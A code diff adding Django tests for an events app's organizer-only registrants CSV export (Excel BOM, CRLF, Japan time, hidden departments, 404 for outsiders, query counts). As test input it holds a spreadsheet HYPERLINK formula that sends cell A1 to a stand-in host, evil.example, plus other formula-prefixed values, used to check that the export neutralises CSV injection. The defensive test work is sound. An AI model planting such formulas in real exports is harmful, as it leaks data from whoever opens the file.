@@ -1,9 +1,14 @@
-"""What organizers and members take away from an occurrence: the printable notice (和暦 in
-Japanese, English dates in English, always Japan time)."""
+"""What organizers and members take away: the registrants as CSV for Excel (BOM, CRLF, no
+formula runs), the attendance chart of a series (an SVG the server draws, with its table), both
+for organizers only, and the printable notice (和暦 in Japanese, English dates in English,
+always Japan time)."""
 
+import csv
+import io
 import re
 from datetime import datetime, timedelta
 from pathlib import Path
+from urllib.parse import quote
 from zoneinfo import ZoneInfo
 
 import pytest
@@ -12,10 +17,11 @@ from django.template import Context, Template
 from django.test import Client
 from django.utils import timezone
 
-from events import services
-from groups.models import Group
-from tests.events.conftest import first_occurrence
-from tests.factories import GroupFactory
+from events import exports, services
+from events.models import Question, Registration
+from groups.models import Group, Membership
+from tests.events.conftest import first_occurrence, make_series
+from tests.factories import GroupFactory, MemberFactory
 
 pytestmark = pytest.mark.django_db
 JST = ZoneInfo("Asia/Tokyo")
@@ -45,6 +51,161 @@ def _occurrence_at(organizer, group, start, **more):
 
 def _when(page: str) -> str:
     return re.search(r"<dd data-when>(.*?)</dd>", page, re.S).group(1)
+
+
+# --- the registrants as CSV ---------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"クリック")'
+HEADER = ["申込順", "名前", "所属", "部署", "状態", "申込日時", "受付", "出席"]
+
+
+@pytest.fixture
+def asked(organizer, vaccine_group):
+    """An occurrence with two questions and seats for two."""
+    questions = [
+        {"label": "所属の人口規模", "kind": "text", "choices": "", "required": False},
+        {"label": "=質問", "kind": "text", "choices": "", "required": False},
+    ]
+    series = make_series(organizer, vaccine_group, capacity=2, questions=questions)
+    return first_occurrence(series)
+
+
+def _answer(occurrence, member, *answers) -> Registration:
+    ids = [str(pk) for pk in occurrence.series.questions.values_list("pk", flat=True)]
+    given = dict(zip(ids, answers, strict=False))
+    return services.registration_create(member=member, occurrence=occurrence, answers=given)[0]
+
+
+def _csv(client, occurrence) -> tuple[bytes, list[list[str]]]:
+    response = client.get(f"/events/{occurrence.pk}/registrants.csv")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    body = response.content
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+    return body, rows
+
+
+def test_the_csv_opens_in_excel_bom_crlf_and_japan_time(organizer, asked):
+    yamada = MemberFactory(display_name="山田 花子", department="保健福祉局", section="",
+                           team="")  # fmt: skip
+    registration = _answer(asked, yamada, "約15万人")
+    services.registration_check_in(actor=organizer, registration=registration)
+    registration.refresh_from_db()
+    body, rows = _csv(_client(organizer), asked)
+    assert body.startswith(b"\xef\xbb\xbf" + "申込順".encode())
+    assert body.count(b"\r\n") == 2 and b"\n" not in body.replace(b"\r\n", b"")
+    assert rows[0] == [*HEADER, "所属の人口規模", "'=質問"]
+    registered = timezone.localtime(registration.registered_at).strftime("%Y-%m-%d %H:%M")
+    checked_in = timezone.localtime(registration.checked_in_at).strftime("%Y-%m-%d %H:%M")
+    assert rows[1] == ["1", "山田 花子", "神戸市", "保健福祉局", "参加予定", registered,
+                       checked_in, "出席", "約15万人", ""]  # fmt: skip
+    assert yamada.email not in body.decode("utf-8-sig")
+
+
+def test_a_formula_in_a_cell_comes_out_as_text(organizer, asked):
+    sly = MemberFactory(display_name="@SUM(1+1)", department="-2+3", section="", team="")
+    _answer(asked, sly, "+81-78-000-0000", HYPERLINK)
+    _body, rows = _csv(_client(organizer), asked)
+    assert rows[1][1] == "'@SUM(1+1)" and rows[1][3] == "'-2+3"
+    assert rows[1][-2:] == ["'+81-78-000-0000", "'" + HYPERLINK]
+
+
+def test_every_kind_of_cell_is_neutralised_and_control_characters_dropped():
+    for start in ["=", "+", "-", "@", "\t", "\r"]:
+        assert exports.cell(start + "1+1") == "'" + start + "1+1"
+    assert exports.cell("a\x00b\x1b\x7f\ud800c") == "abc"
+    assert exports.cell("\x00=1+1") == "'=1+1"  # a NUL cannot hide the formula
+    assert exports.cell("改行\nあり") == "改行\nあり"
+    assert exports.cell(None) == "" and exports.cell(12) == "12"
+
+
+def test_nul_in_an_answer_never_breaks_the_file(organizer):
+    """PostgreSQL refuses NUL in text and the site refuses it in forms; a row that holds one
+    anyway (an older database, an import) still comes out."""
+    question = Question(pk=7, label="質問")
+    registration = Registration(
+        member=organizer, position=1, status=Registration.Status.CONFIRMED,
+        answers={"7": "=a\x00b"}, registered_at=timezone.now(),
+    )  # fmt: skip
+    body = exports.registrants_csv([registration], [question], organizer)
+    assert b"\x00" not in body and body.decode("utf-8-sig").endswith(",'=ab\r\n")
+
+
+def test_odd_answers_typed_in_never_give_a_server_error(organizer, asked, member):
+    question = asked.series.questions.first()
+
+    def send(value: str):
+        encoded = quote(value.encode("utf-8", "surrogatepass"))
+        return _client(member).post(f"/events/{asked.pk}/register", f"{question.pk}={encoded}",
+                                    content_type="application/x-www-form-urlencoded")  # fmt: skip
+
+    assert send("a\x00b").status_code == 400  # NUL: refused before any view
+    assert not asked.registrations.exists()
+    assert send("\ud800=1+1").status_code == 302  # not UTF-8: read as U+FFFD
+    _body, rows = _csv(_client(organizer), asked)
+    assert rows[1][-2].strip("\ufffd") == "=1+1"
+
+
+def test_a_hidden_department_stays_hidden(organizer, asked):
+    shy = MemberFactory(department="危機管理室", hide_department=True)
+    _answer(asked, shy)
+    _body, rows = _csv(_client(organizer), asked)
+    assert rows[1][3] == ""
+
+
+def test_attendance_and_status_read_in_words(organizer, asked):
+    present, absent, waiting = MemberFactory(), MemberFactory(), MemberFactory()
+    for who in (present, absent, waiting):
+        _answer(asked, who)
+    ids = list(asked.registrations.order_by("position").values_list("pk", flat=True))
+    services.attendance_mark(actor=organizer, occurrence=asked, attended_ids=[ids[0]])
+    _body, rows = _csv(_client(organizer), asked)
+    assert [(row[4], row[7]) for row in rows[1:]] == [
+        ("参加予定", "出席"), ("参加予定", "欠席"), ("補欠", ""),
+    ]  # fmt: skip
+
+
+@pytest.fixture
+def other_group_moderator(organizer):
+    other = GroupFactory(owner=organizer, slug="other", name="別のグループ")
+    moderator = MemberFactory()
+    Membership.objects.create(group=other, member=moderator, role=Membership.Role.MODERATOR)
+    return moderator
+
+
+def test_the_csv_is_the_same_404_for_anyone_but_the_organizers(
+    asked, member, other_group_moderator, organizer, vaccine_group
+):
+    _answer(asked, member)
+    for outsider in (member, other_group_moderator):
+        assert _client(outsider).get(f"/events/{asked.pk}/registrants.csv").status_code == 404
+    assert _client(member).get("/events/99999999/registrants.csv").status_code == 404
+    moderator = MemberFactory()
+    Membership.objects.create(group=vaccine_group, member=moderator,
+                              role=Membership.Role.MODERATOR)  # fmt: skip
+    assert _client(moderator).get(f"/events/{asked.pk}/registrants.csv").status_code == 200
+    anonymous = Client().get(f"/events/{asked.pk}/registrants.csv")
+    assert anonymous.status_code == 302
+
+
+def test_the_csv_asks_the_same_queries_however_many_registered(
+    organizer, asked, django_assert_num_queries
+):
+    client = _client(organizer)
+    _answer(asked, MemberFactory(), "a")
+    # session, member, occurrence, membership, registration, organizers, questions, registrants
+    with django_assert_num_queries(8):
+        assert len(_csv(client, asked)[1]) == 2
+    services.occurrence_capacity_set(actor=organizer, occurrence=asked, capacity=20)
+    for number in range(12):
+        _answer(asked, MemberFactory(organization=None) if number % 3 else MemberFactory(), "b")
+    with django_assert_num_queries(8):
+        assert len(_csv(client, asked)[1]) == 14
+
+
+def test_the_manage_page_links_the_csv(organizer, asked):
+    page = _client(organizer).get(f"/events/{asked.pk}/manage/").content.decode()
+    assert f'href="/events/{asked.pk}/registrants.csv"' in page
 
 
 # --- the notice -----------------------------------------------------------------------------
